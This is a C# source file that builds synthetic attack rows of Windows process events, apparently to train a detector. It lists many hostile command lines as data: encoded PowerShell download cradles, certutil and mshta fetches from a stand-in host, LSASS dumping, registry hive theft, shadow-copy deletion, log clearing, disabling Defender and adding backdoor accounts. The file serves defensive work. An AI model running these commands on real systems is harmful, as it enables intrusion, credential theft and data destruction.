using Changeling.Events;

namespace Changeling.Training;

/// <summary>
/// Attack rows of our own for what the corpus hardly has: well-known commands under typical parents, system names outside their folders,
/// look-alike names, and renamed system tools whose version resource still has the original name. They come neither from the simulator
/// nor from recordings.
/// </summary>
internal static class MadeAttacks
{
    private static readonly string[] Folders =
        [@"C:\Users\Public\", @"C:\Users\user\AppData\Local\Temp\", @"C:\Users\user\AppData\Roaming\", @"C:\Users\user\Downloads\", @"C:\ProgramData\", @"C:\Windows\Temp\", @"C:\Users\user\AppData\Roaming\Microsoft\", @"C:\PerfLogs\"];

    private static readonly string[] SystemNames = ["svchost", "lsass", "csrss", "services", "winlogon", "explorer", "rundll32", "taskhostw", "spoolsv", "dllhost", "conhost", "smss", "cmd", "powershell", "regsvr32", "mshta"];
    private static readonly string[] Lookalikes = ["svch0st", "scvhost", "svhost", "lsasss", "csrsss", "exp1orer", "expl0rer", "winlog0n", "taskhost1", "rund1132", "spoo1sv", "svchosts", "dllh0st", "servlces"];
    private static readonly string[] Randoms = ["a", "x64", "tool", "update1", "hpsvc", "teamsupd", "kb3021", "notes", "m", "chrome_upd", "java32", "win"];

    private static readonly (string Original, string Arguments)[] Tools =
    [
        ("PowerShell.EXE", "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"), ("Cmd.Exe", "/c whoami /all"), ("RUNDLL32.EXE", @"C:\Users\Public\x.dll,Start"),
        ("CertUtil.exe", "-urlcache -split -f http://198.51.100.7/a.bin a.bin"), ("psexec.c", @"\\srv01 -accepteula -s cmd.exe"), ("procdump", "-accepteula -ma lsass.exe l.dmp"),
        ("REGSVR32.EXE", "/s /u /i:http://198.51.100.7/a.sct scrobj.dll"), ("MSHTA.EXE", "http://198.51.100.7/a.hta"), ("wmic.exe", "process call create cmd.exe"),
        ("wscript.exe", @"C:\Users\Public\a.js"), ("bitsadmin.exe", @"/transfer j http://198.51.100.7/a.exe C:\Users\Public\a.exe"), ("MSBuild.exe", @"C:\Users\Public\p.xml"), ("net.exe", "user /domain"),
    ];

    private const string System32 = @"C:\Windows\System32\";
    private const string PowerShell = System32 + @"WindowsPowerShell\v1.0\powershell.exe";

    /// <summary>What living off the land looks like in reports of the last ten years, in words of our own.</summary>
    private static readonly (string Path, string Arguments)[] Commands =
    [
        (PowerShell, "-nop -w hidden -e JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAOwBJAEUAWAAgACQAYwAuAEQAbwB3AG4AbABvAGEAZABTAHQAcgBpAG4AZwAoACcAaAB0AHQAcAA6AC8ALwBhAC4AZQB4AGEAbQBwAGwAZQAvAHgAJwApAA=="),
        (PowerShell, "-NoP -NonI -W Hidden -Enc UwBlAHQALQBFAHgAZQBjAHUAdABpAG8AbgBQAG8AbABpAGMAeQAgAEIAeQBwAGEAcwBzADsAaQBlAHgAKABpAHcAcgAgAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBzAC4AcABzADEAKQA="),
        (PowerShell, "-c \"IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')\""), (PowerShell, @"-ep bypass -c ""iwr http://198.51.100.7/b.exe -OutFile $env:TEMP\b.exe; Start-Process $env:TEMP\b.exe"""),
        (PowerShell, @"-w hidden -ep bypass -file C:\Users\Public\upd.ps1"), (PowerShell, "-Command Set-MpPreference -DisableRealtimeMonitoring $true"), (PowerShell, @"-Command Add-MpPreference -ExclusionPath C:\Users\Public"),
        (PowerShell, "-c \"[Reflection.Assembly]::Load([Convert]::FromBase64String($x)).EntryPoint.Invoke($null,$null)\""), (PowerShell, "-c \"Get-WmiObject Win32_ShadowCopy | ForEach-Object {$_.Delete()}\""),
        (System32 + "cmd.exe", "/c powershell -w hidden -enc SQBFAFgAIAAkAGUAbgB2ADoAeAA7ACAAUwB0AGEAcgB0AC0AUwBsAGUAZQBwACAAMQAwAA=="), (System32 + "cmd.exe", @"/c certutil -urlcache -f http://198.51.100.7/a.exe %TEMP%\a.exe & %TEMP%\a.exe"),
        (System32 + "cmd.exe", "/c whoami /all & net group \"domain admins\" /domain"), (System32 + "cmd.exe", "/c vssadmin delete shadows /all /quiet & bcdedit /set {default} recoveryenabled no"), (System32 + "cmd.exe", @"/q /c cd \ 1> \\127.0.0.1\ADMIN$\__1600000000.1 2>&1"),
        (System32 + "cmd.exe", @"/c reg save HKLM\SYSTEM C:\Users\Public\s.hiv"), (System32 + "cmd.exe", @"/c start /b rundll32 C:\ProgramData\k.dll,Init"), (System32 + "cmd.exe", "/c mshta http://198.51.100.7/a"), (System32 + "cmd.exe", @"/c echo x > \\.\pipe\abcdef"),
        (System32 + "cmd.exe", "/c whoami /all"), (System32 + "cmd.exe", "/c whoami /priv"), (System32 + "cmd.exe", "/c nltest /domain_trusts /all_trusts"), (System32 + "cmd.exe", @"/c wscript %APPDATA%\x.js"), (System32 + "cmd.exe", @"/c copy \\198.51.100.7\s\a.exe C:\ProgramData\a.exe"),
        (System32 + "certutil.exe", "-urlcache -split -f http://198.51.100.7/a.txt a.exe"), (System32 + "certutil.exe", @"-verifyctl -f -split https://files.example.net/x.dat C:\ProgramData\x.dat"), (System32 + "certutil.exe", @"-decode C:\Users\Public\a.txt C:\Users\Public\a.exe"),
        (System32 + "mshta.exe", "http://198.51.100.7/run.hta"), (System32 + "mshta.exe", "vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run(\"\"calc\"\")(window.close)\")"), (System32 + "mshta.exe", @"C:\Users\user\AppData\Local\Temp\doc.hta"), (System32 + "mshta.exe", "javascript:a=GetObject('script:https://files.example.net/a.sct').Exec();close();"),
        (System32 + "rundll32.exe", @"javascript:""\..\mshtml,RunHTMLApplication "";alert(1)"), (System32 + "rundll32.exe", @"C:\Users\user\AppData\Local\Temp\q.dll,DllRegisterServer"), (System32 + "rundll32.exe", @"C:\Windows\System32\comsvcs.dll MiniDump 712 C:\ProgramData\o.bin full"), (System32 + "rundll32.exe", @"C:\ProgramData\r.dat,#1"), (System32 + "rundll32.exe", @"url.dll,OpenURL C:\Users\Public\a.hta"),
        (System32 + "regsvr32.exe", "/s /n /u /i:https://files.example.net/b.sct scrobj.dll"), (System32 + "regsvr32.exe", @"/s C:\Users\user\AppData\Local\Temp\z.ocx"), (System32 + "wscript.exe", @"//B //E:jscript C:\Users\user\AppData\Local\Temp\inv.txt"), (System32 + "wscript.exe", @"C:\Users\user\Downloads\invoice.js"), (System32 + "cscript.exe", @"//nologo C:\Users\Public\q.vbs"),
        (System32 + @"wbem\wmic.exe", @"/node:""10.1.1.5"" process call create ""powershell -enc SQBFAFgA"""), (System32 + @"wbem\wmic.exe", @"process call create C:\ProgramData\a.exe"), (System32 + @"wbem\wmic.exe", "shadowcopy delete /nointeractive"), (System32 + @"wbem\wmic.exe", "os get /format:\"http://198.51.100.7/a.xsl\""),
        (System32 + "bitsadmin.exe", @"/transfer x /priority foreground https://files.example.net/a.exe C:\ProgramData\a.exe"), (System32 + "curl.exe", @"-o C:\ProgramData\a.exe http://198.51.100.7/a.exe"), (System32 + "schtasks.exe", @"/create /tn Sync /tr ""powershell -w hidden -file C:\ProgramData\s.ps1"" /sc onlogon /ru system /f"), (System32 + "schtasks.exe", @"/create /s srv02 /sc once /st 23:00 /tn x /tr C:\Windows\Temp\x.exe"),
        (System32 + "sc.exe", @"create updsvc binPath= ""cmd /c start C:\ProgramData\u.exe"" start= auto"), (System32 + "sc.exe", @"\\srv02 create x binPath= C:\Windows\Temp\x.exe"), (System32 + "reg.exe", @"add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Upd /t REG_SZ /d C:\Users\Public\u.exe /f"), (System32 + "reg.exe", @"save HKLM\SECURITY C:\ProgramData\sec.hiv"),
        (System32 + "reg.exe", @"add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f"), (System32 + "vssadmin.exe", "delete shadows /for=c: /quiet"), (System32 + "vssadmin.exe", "resize shadowstorage /for=c: /on=c: /maxsize=401MB"), (System32 + "wbadmin.exe", "delete catalog -quiet"), (System32 + "bcdedit.exe", "/set {default} bootstatuspolicy ignoreallfailures"),
        (System32 + "wevtutil.exe", "cl Security"), (System32 + "ntdsutil.exe", @"""ac i ntds"" ifm ""create full C:\ProgramData\n"" q q"), (System32 + "netsh.exe", "interface portproxy add v4tov4 listenport=8443 connectaddress=198.51.100.7 connectport=443"), (System32 + "netsh.exe", "advfirewall set allprofiles state off"), (System32 + "net.exe", "localgroup administrators support /add"),
        (System32 + "net.exe", "user support P4ssw0rd! /add"), (System32 + "nltest.exe", "/domain_trusts"), (System32 + "msiexec.exe", "/q /i http://198.51.100.7/a.msi"), (System32 + "cmstp.exe", @"/s /ns C:\Users\Public\c.inf"), (System32 + "forfiles.exe", @"/p c:\windows\system32 /m notepad.exe /c ""C:\ProgramData\a.exe"""), (System32 + "odbcconf.exe", @"/s /a {regsvr C:\ProgramData\a.dll}"),
        (@"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe", @"C:\Users\user\AppData\Local\Temp\p.csproj"), (@"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe", @"/logfile= /LogToConsole=false /U C:\ProgramData\a.exe"), (@"C:\Tools\procdump64.exe", @"-accepteula -ma lsass.exe C:\ProgramData\ls.dmp"), (@"C:\Users\user\Downloads\PsExec64.exe", @"\\srv02 -accepteula -s cmd /c whoami"),
    ];

    public static IEnumerable<ProcessEvent> All(Random random)
    {
        foreach (var (path, arguments) in Commands)
        {
            for (var i = 0; i < 4; i++) yield return Start(path, null, arguments, random);
        }

        foreach (var name in SystemNames.Concat(Lookalikes))
        {
            for (var i = 0; i < 6; i++) yield return Start($"{Pick(Folders, random)}{name}.exe", null, "", random);
        }

        foreach (var (original, arguments) in Tools)
        {
            for (var i = 0; i < 4; i++) yield return Start($"{Pick(Folders, random)}{Pick(Randoms, random)}.exe", original, arguments, random);
        }
    }

    private static ProcessEvent Start(string path, string? original, string arguments, Random random)
    {
        var name = path[(path.LastIndexOf('\\') + 1)..].ToLowerInvariant();
        var image = random.Next(3) switch { 0 => name[..name.LastIndexOf('.')], 1 => path, _ => $"\"{path}\"" };
        return AssumedFields.Redraw(
            new ProcessEvent
            {
                Time = DateTimeOffset.UnixEpoch,
                Host = new("made"),
                Format = "synthetic",
                Child = new() { Name = name, Path = path, CommandLine = $"{image} {arguments}", OriginalFileName = original },
            },
            random);
    }

    private static string Pick(string[] from, Random random) => from[random.Next(from.Length)];
}
